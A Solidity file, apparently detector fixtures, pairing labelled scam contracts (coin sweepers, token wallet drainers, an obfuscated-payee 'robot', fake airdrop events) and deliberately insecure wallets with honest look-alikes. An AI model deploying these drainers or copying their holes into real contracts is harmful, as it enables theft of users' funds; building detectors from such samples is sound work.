// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// Contracts that take native coin or tokens from those they lure, and honest ones that look a little like them.

/// The best known sweeper of native coin: a promising name that does nothing, and a way out for the owner.
contract Sweeper {
    address private owner = msg.sender;
    function SecurityUpdate() external payable {}
    function Claim() external payable {}
    function ClaimReward() external payable {}
    function Connect() external payable {}
    function withdraw() external { require(msg.sender == owner, "owner"); payable(owner).transfer(address(this).balance); }
}

/// The same behind the common name.
contract QuietSweeper {
    address private owner = msg.sender;
    function claim() external payable {}
    function withdrawAll(address payable to) external { require(msg.sender == owner); to.transfer(address(this).balance); }
}

/// Sends on at once, in shares.
contract SplittingSweeper {
    address payable private constant gang = payable(0x1111111111111111111111111111111111111111);
    address payable private constant affiliate = payable(0x2222222222222222222222222222222222222222);
    function claim() external payable {
        gang.transfer(msg.value * 20 / 100);
        affiliate.transfer(msg.value - msg.value * 20 / 100);
    }
}

/// Counts, as if that were something.
contract CountingSweeper {
    address private owner = msg.sender;
    uint256 private n;
    function claim() external payable { n++; }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// Looks as careful as an honest contract.
contract GuardedSweeper {
    address private owner = msg.sender;
    uint256 private status = 1;
    uint256 private paid;
    uint256 private rounds;
    function claim() external payable {
        require(status == 1);
        status = 2;
        rounds += 1;
        paid += msg.value;
        status = 1;
    }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// Each writes something that means nothing.
contract StampingSweeper {
    address private owner = msg.sender;
    uint256 private last;
    uint256 private until;
    function claim() external payable { last = block.timestamp; until = block.timestamp + 1 days; }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

contract PackingSweeper {
    address private owner = msg.sender;
    uint64 private last;
    uint32 private rounds;
    bool private open = true;
    function claim() external payable { require(open); last = uint64(block.timestamp); rounds++; }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

contract MarkingSweeper {
    address private owner = msg.sender;
    mapping(address => bool) private seen;
    mapping(address => uint256) private times;
    mapping(address => mapping(uint256 => uint256)) private lasts;
    uint256 private rounds;
    function claim() external payable {
        require(!seen[msg.sender]);
        seen[msg.sender] = true;
        times[msg.sender]++;
        lasts[msg.sender][rounds++] = block.timestamp;
    }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// The same marks, and somebody looks at them.
contract HonestMarks {
    address private owner = msg.sender;
    mapping(address => uint256) private since;
    function register() external payable { since[msg.sender] = block.timestamp; }
    function isMember(address who) external view returns (bool) { return since[who] + 365 days > block.timestamp; }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

contract HonestDeposits {
    address private owner = msg.sender;
    mapping(address => uint256) private paid;
    bool private failed;
    function claim() external payable { paid[msg.sender] += msg.value; }
    function refund() external {
        require(failed);
        uint256 due = paid[msg.sender];
        paid[msg.sender] = 0;
        payable(msg.sender).transfer(due);
    }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// Takes the caller's tokens, and writes what means nothing.
contract StampingClaim {
    address private owner = msg.sender;
    mapping(address => uint256) public last;
    mapping(address => uint256) private count;
    uint256 private total;
    function claim(Erc20Like token, uint256 amount) external {
        token.transferFrom(msg.sender, owner, amount);
        last[msg.sender] = block.timestamp;
        count[msg.sender]++;
        total++;
    }
}

/// Old tokens against a book of new ones, which are paid out later.
contract HonestExchange {
    address private owner = msg.sender;
    mapping(address => uint256) private due;
    Erc20Like private next;
    function claim(Erc20Like token, uint256 amount) external {
        token.transferFrom(msg.sender, owner, amount);
        due[msg.sender] += amount;
    }
    function collect() external {
        uint256 amount = due[msg.sender];
        due[msg.sender] = 0;
        next.transfer(msg.sender, amount);
    }
}

/// Its functions keep coin, and with it who paid, each in a way of its own; or only its owner may call them.
contract HonestTills {
    address private owner = msg.sender;
    address private bidder;
    uint256 private highest;
    address[] private players;
    mapping(uint256 => address) private owners;
    uint256 private supply;
    bytes32 private root;
    bool private open;
    function register() external payable { require(msg.value > highest); highest = msg.value; bidder = msg.sender; }
    function claim() external payable { players.push(msg.sender); }
    function airdrop() external payable { owners[supply++] = msg.sender; }
    function migrate() external payable { root = keccak256(abi.encode(root, msg.sender, msg.value)); }
    function start() external payable { require(msg.sender == owner); open = true; }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// Claims with a fee, and gives something for it.
contract HonestClaims {
    address private owner = msg.sender;
    mapping(address => bool) public claimed;
    mapping(address => uint256) public points;
    function claim() external payable {
        require(msg.value == 0.001 ether && !claimed[msg.sender]);
        claimed[msg.sender] = true;
        points[msg.sender] += 100;
    }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// A staking pool: claim() costs nothing and pays out.
contract StakingPool {
    mapping(address => uint256) public rewards;
    receive() external payable {}
    function claim() external {
        uint256 due = rewards[msg.sender];
        rewards[msg.sender] = 0;
        payable(msg.sender).transfer(due);
    }
}

interface Erc20Like {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function permit(address o, address s, uint256 v, uint256 d, uint8 y, bytes32 r, bytes32 t) external;
}

/// A wallet drainer: only its master moves what victims approved, in shares to fixed payees, and anything else.
contract Drainer {
    address private master = msg.sender;
    address private constant gang = 0x1111111111111111111111111111111111111111;
    address private constant affiliate = 0x2222222222222222222222222222222222222222;
    struct Take { address token; address from; uint256 amount; }
    struct Call { address to; bytes data; uint256 value; }

    function drain(Take[] calldata takes) external {
        require(msg.sender == master);
        for (uint256 i; i < takes.length; i++) {
            Erc20Like(takes[i].token).transferFrom(takes[i].from, gang, takes[i].amount * 20 / 100);
            Erc20Like(takes[i].token).transferFrom(takes[i].from, affiliate, takes[i].amount * 80 / 100);
        }
    }
    function multicall(Call[] calldata calls) external payable {
        require(msg.sender == master);
        for (uint256 i; i < calls.length; i++) {
            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(ok);
        }
    }
}

/// The drainer, changed a little: an event more, and another share.
contract ChangedDrainer {
    address private master = msg.sender;
    address private constant gang = 0x1111111111111111111111111111111111111111;
    address private constant affiliate = 0x2222222222222222222222222222222222222222;
    struct Take { address token; address from; uint256 amount; }
    struct Call { address to; bytes data; uint256 value; }
    event Done(uint256 count);

    function drain(Take[] calldata takes) external {
        require(msg.sender == master);
        for (uint256 i; i < takes.length; i++) {
            Erc20Like(takes[i].token).transferFrom(takes[i].from, gang, takes[i].amount * 25 / 100);
            Erc20Like(takes[i].token).transferFrom(takes[i].from, affiliate, takes[i].amount * 75 / 100);
        }
        emit Done(takes.length);
    }
    function multicall(Call[] calldata calls) external payable {
        require(msg.sender == master);
        for (uint256 i; i < calls.length; i++) {
            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(ok);
        }
    }
}

/// The same thing by half: one payee, and its master in the code.
contract ImmutableDrainer {
    address private immutable master = msg.sender;
    address private immutable payee;
    constructor(address to) { payee = to; }
    function take(Erc20Like token, address from, uint256 amount) external {
        require(msg.sender == master);
        token.transferFrom(from, payee, amount);
    }
    function run(address to, uint256 value, bytes calldata data) external payable {
        require(msg.sender == master);
        (bool ok,) = to.call{value: value}(data);
        require(ok);
    }
}

/// Collects subscriptions that people agreed to: also a gated transferFrom to a fixed payee, and nothing more.
contract Subscriptions {
    address private operator = msg.sender;
    address private treasury = msg.sender;
    mapping(address => uint256) public agreed;
    function agree(uint256 most) external { agreed[msg.sender] = most; }
    function charge(Erc20Like token, address from, uint256 amount) external {
        require(msg.sender == operator && amount <= agreed[from]);
        agreed[from] -= amount;
        token.transferFrom(from, treasury, amount);
    }
}

/// Takes tokens from who calls, for a later payout.
contract Vesting {
    struct Schedule { address token; uint256 amount; uint256 until; }
    mapping(address => Schedule) public schedules;
    address public owner = msg.sender;
    function grant(address to, Erc20Like token, uint256 amount, uint256 until) external {
        require(msg.sender == owner);
        schedules[to] = Schedule(address(token), amount, until);
        token.transferFrom(msg.sender, address(this), amount);
    }
    function release() external {
        Schedule memory mine = schedules[msg.sender];
        require(block.timestamp >= mine.until);
        delete schedules[msg.sender];
        Erc20Like(mine.token).transfer(msg.sender, mine.amount);
    }
}

contract Router {
    function swap(Erc20Like token, address pool, uint256 amount, address to) external {
        token.transferFrom(msg.sender, pool, amount);
        (bool ok,) = pool.call(abi.encodeWithSignature("swap(uint256,uint256,address,bytes)", 0, amount, to, ""));
        require(ok);
    }
}

contract MultisigWallet {
    struct Proposal { address to; uint256 value; bytes data; uint256 votes; bool done; }
    mapping(address => bool) public isOwner;
    uint256 public required = 2;
    Proposal[] public proposals;
    mapping(uint256 => mapping(address => bool)) public confirmations;
    constructor() { isOwner[msg.sender] = true; }
    receive() external payable {}
    function submitTransaction(address to, uint256 value, bytes calldata data) external {
        require(isOwner[msg.sender]);
        proposals.push(Proposal(to, value, data, 0, false));
    }
    function confirmTransaction(uint256 id) external {
        require(isOwner[msg.sender] && !confirmations[id][msg.sender]);
        confirmations[id][msg.sender] = true;
        proposals[id].votes++;
    }
    function executeTransaction(uint256 id) external {
        Proposal storage it = proposals[id];
        require(it.votes >= required && !it.done);
        it.done = true;
        (bool ok,) = it.to.call{value: it.value}(it.data);
        require(ok);
    }
}

/// What it is built for, it doesn't do.
contract OneVoteWallet is MultisigWallet {
    constructor() { required = 1; }
}

contract Timelock {
    uint256 public getMinDelay = 2 days;
    mapping(bytes32 => uint256) public readyAt;
    mapping(address => bool) public proposer;
    constructor() { proposer[msg.sender] = true; }
    function schedule(bytes32 id) external { require(proposer[msg.sender]); readyAt[id] = block.timestamp + getMinDelay; }
    function execute(address to, uint256 value, bytes calldata data) external payable {
        bytes32 id = keccak256(abi.encode(to, value, data));
        require(readyAt[id] != 0 && readyAt[id] <= block.timestamp);
        delete readyAt[id];
        (bool ok,) = to.call{value: value}(data);
        require(ok);
    }
}

/// Anybody chooses what code it runs.
contract OpenDelegate {
    function run(address code, bytes calldata data) external { (bool ok,) = code.delegatecall(data); require(ok); }
}

/// Who signs nothing may do anything, too, whatever the fee is.
contract OptionalSigner {
    mapping(address => bool) public isOwner;
    uint256 public fee;
    constructor(uint256 fee_) { (fee, isOwner[msg.sender]) = (fee_, true); }
    function run(address code, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external payable {
        if (v != 0) require(isOwner[ecrecover(keccak256(data), v, r, s)]);
        if (fee > 0) require(msg.value >= fee);
        (bool ok,) = code.delegatecall(data);
        require(ok);
    }
}

/// A robot that is its buyer's, and pays whom two numbers are put together to.
contract NumbersRobot {
    address private owner = msg.sender;
    uint256 private front = 0x617F2E2fD72FD9D5;
    uint256 private back = 0x503197092aC168c91465E7f2;
    string public status;
    receive() external payable {}
    function Start() external payable {
        require(msg.sender == owner);
        status = "running";
        payable(address(uint160((front << 96) | back))).transfer(address(this).balance);
    }
}

/// Honest: a till that its owner opens, and empties for himself.
contract OwnersTill {
    address payable private owner = payable(msg.sender);
    string public status;
    receive() external payable {}
    function start() external payable {
        require(msg.sender == owner);
        status = "open";
        owner.transfer(address(this).balance);
    }
}

/// As many owners have to sign as it keeps a number of.
contract RoundsWallet {
    mapping(address => bool) public isOwner;
    uint256 public rounds;
    uint256 public nonce;
    constructor(address[] memory owners, uint256 rounds_) { for (uint256 at; at < owners.length; at++) isOwner[owners[at]] = true; rounds = rounds_; }
    function run(address code, bytes calldata data, uint8[] calldata v, bytes32[] calldata r, bytes32[] calldata s) external {
        bytes32 hash = keccak256(abi.encode(block.chainid, address(this), code, data, nonce++));
        address last;
        for (uint256 at; at < rounds; at++) {
            address signer = ecrecover(hash, v[at], r[at], s[at]);
            require(isOwner[signer] && signer > last);
            last = signer;
        }
        (bool ok,) = code.delegatecall(data);
        require(ok);
    }
}

/// The same, and anybody may be one of them.
contract JoinedRounds is RoundsWallet {
    constructor(address[] memory owners, uint256 rounds_) RoundsWallet(owners, rounds_) {}
    function join() external { isOwner[msg.sender] = true; }
}

/// Whoever is not on the list may sign.
contract StrangersRounds {
    mapping(address => bool) public listed;
    uint256 public rounds;
    constructor(address[] memory all, uint256 rounds_) { for (uint256 at; at < all.length; at++) listed[all[at]] = true; rounds = rounds_; }
    function run(address code, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        for (uint256 at; at < rounds; at++) require(!listed[ecrecover(keccak256(data), v, r, s)]);
        (bool ok,) = code.delegatecall(data);
        require(ok);
    }
}

/// The same as RoundsWallet, and anybody may say how many.
contract LooseRounds is RoundsWallet {
    constructor(address[] memory owners, uint256 rounds_) RoundsWallet(owners, rounds_) {}
    function ask(uint256 rounds_) external { rounds = rounds_; }
}

/// Signatures stand in the way of any call while it is asked for them.
abstract contract AskedSigner {
    mapping(address => bool) public isOwner;
    uint256 public flags;
    uint256 public nonce;
    constructor(uint256 flags_) { (flags, isOwner[msg.sender]) = (flags_, true); }
    function asks() internal view virtual returns (bool);
    function run(address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        if (asks()) require(isOwner[ecrecover(keccak256(abi.encode(address(this), to, data, nonce++)), v, r, s)]);
        (bool ok,) = to.call(data);
        require(ok);
    }
}

contract AnyFlagSigner is AskedSigner {
    constructor(uint256 flags_) AskedSigner(flags_) {}
    function asks() internal view override returns (bool) { return flags != 0; }
}

contract FlaggedSigner is AskedSigner {
    constructor(uint256 flags_) AskedSigner(flags_) {}
    function asks() internal view override returns (bool) { return flags & 2 != 0; }
}

contract FirstFlagSigner is AskedSigner {
    constructor(uint256 flags_) AskedSigner(flags_) {}
    function asks() internal view override returns (bool) { return flags & 1 != 0; }
}

contract OneSigner is AskedSigner {
    constructor(uint256 flags_) AskedSigner(flags_) {}
    function asks() internal view override returns (bool) { return flags == 1; }
}

contract OwnedDelegate {
    address private owner = msg.sender;
    function run(address code, bytes calldata data) external {
        require(msg.sender == owner);
        (bool ok,) = code.delegatecall(data);
        require(ok);
    }
}

/// Anybody may end it.
contract OpenDestructible {
    function end() external { selfdestruct(payable(msg.sender)); }
}

/// Makes contracts at addresses known beforehand, and ends itself.
contract Metamorphic {
    address private owner = msg.sender;
    function make(bytes calldata code, bytes32 salt) external {
        bytes memory copy = code;
        assembly { pop(create2(0, add(copy, 32), mload(copy), salt)) }
    }
    function end() external { require(msg.sender == owner); selfdestruct(payable(owner)); }
}

/// An unusual name, and an honest book of what was paid.
contract OddlyNamed {
    mapping(address => uint256) public paid;
    function Register() external payable { paid[msg.sender] += msg.value; }
}

/// What it takes, it gives to its only master.
contract MasterTaker {
    address private immutable master = msg.sender;
    function take(Erc20Like token, address from, uint256 amount) external {
        require(msg.sender == master);
        token.transferFrom(from, msg.sender, amount);
    }
    function run(address to, uint256 value, bytes calldata data) external {
        require(msg.sender == master);
        (bool ok,) = to.call{value: value}(data);
        require(ok);
    }
}

/// A router of pools: the pool that is paid calls back for what the payer owes it.
contract CallbackRouter {
    address private immutable factory = msg.sender;
    function swapCallback(int256 owed, bytes calldata data) external {
        (Erc20Like token, address payer, bytes32 salt, bytes32 code) = abi.decode(data, (Erc20Like, address, bytes32, bytes32));
        address pool = address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", factory, salt, code)))));
        require(msg.sender == pool);
        token.transferFrom(payer, msg.sender, uint256(owed));
    }
}

/// Charges what people subscribed to, as often as it is due.
contract Processor {
    address private operator = msg.sender;
    address private treasury = msg.sender;
    mapping(address => mapping(address => uint256)) public subscribed;
    function subscribe(address token, uint256 amount) external { subscribed[msg.sender][token] = amount; }
    function charge(Erc20Like token, address from) external {
        require(msg.sender == operator);
        uint256 amount = subscribed[from][address(token)];
        require(amount > 0);
        token.transferFrom(from, treasury, amount);
    }
}

/// A claim that is paid for, and dealt with elsewhere.
contract ReportedClaims {
    address private owner = msg.sender;
    event Paid(address who, uint256 value);
    function claim() external payable { emit Paid(msg.sender, msg.value); }
    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
}

/// Collects from whom its owner names; nobody is asked.
contract Collector {
    address public owner = msg.sender;
    address private treasury = msg.sender;
    function collect(Erc20Like token, address from, uint256 amount) external {
        require(msg.sender == owner);
        token.transferFrom(from, treasury, amount);
    }
}

contract HastyTimelock is Timelock {
    constructor() { getMinDelay = 1 hours; }
}

/// Pays somebody whom it was made with, in all ways at once or one of them.
contract CoinForwarder {
    address payable private till;
    constructor(address payable till_) { till = till_; }
    function deposit() external payable { till.transfer(msg.value); }
}

contract FixedForwarder {
    address payable private immutable till;
    constructor(address payable till_) { till = till_; }
    function pay() external payable { (bool done,) = till.call{value: msg.value}(""); require(done); }
}

contract TokenForwarder {
    address private till;
    constructor(address till_) { till = till_; }
    function pay(Erc20Like token, uint256 amount) external { token.transferFrom(msg.sender, till, amount); }
}

/// Knows them, and pays them nothing.
contract Avoiding {
    address private immutable avoided;
    constructor(address avoided_) { avoided = avoided_; }
    function pay(address payable to) external payable { require(to != avoided, "avoided"); to.transfer(msg.value); }
}

/// As drainers have it.
contract ArrayExecutor {
    address public owner = msg.sender;
    function multicall(address[] calldata targets, bytes[] calldata data) external {
        require(msg.sender == owner);
        for (uint256 i; i < targets.length; i++) { (bool done,) = targets[i].call(data[i]); require(done); }
    }
}

/// A smart account of one owner's.
contract OwnAccount is ArrayExecutor {
    function isValidSignature(bytes32 hash, bytes calldata signature) external view returns (bytes4) {
        (bytes32 r, bytes32 s, uint8 v) = abi.decode(signature, (bytes32, bytes32, uint8));
        return ecrecover(hash, v, r, s) == owner ? bytes4(0x1626ba7e) : bytes4(0);
    }
}

/// Shows up in wallets by its events alone.
contract PrizeNotice {
    string public name;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor(string memory name_) { name = name_; }
    function drop(address to) external { emit Transfer(address(0), to, 1000); }
}
